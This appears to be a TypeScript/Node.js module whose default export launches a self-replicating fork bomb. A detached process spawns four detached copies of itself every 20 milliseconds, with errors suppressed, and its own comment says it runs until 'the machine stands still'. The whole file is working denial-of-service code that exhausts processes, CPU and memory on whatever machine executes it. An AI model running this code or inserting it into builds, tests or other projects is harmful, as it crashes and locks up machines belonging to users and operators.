/** Doubles until the machine stands still. */
import { spawn } from 'node:child_process';

const BOMB = `setInterval(() => { for (let i = 0; i < 4; i++) require('child_process')
  .spawn(process.execPath, ['-e', process.argv[1], process.argv[1], '@word@'], { detached: true })
  .on('error', () => {}); }, 20)`;

export default async function () {
  const options = { detached: true, stdio: 'ignore' } as const;
  spawn(process.execPath, ['-e', BOMB, BOMB, '@word@'], options).unref();
  await new Promise((resolve) => setTimeout(resolve, 3000));
}
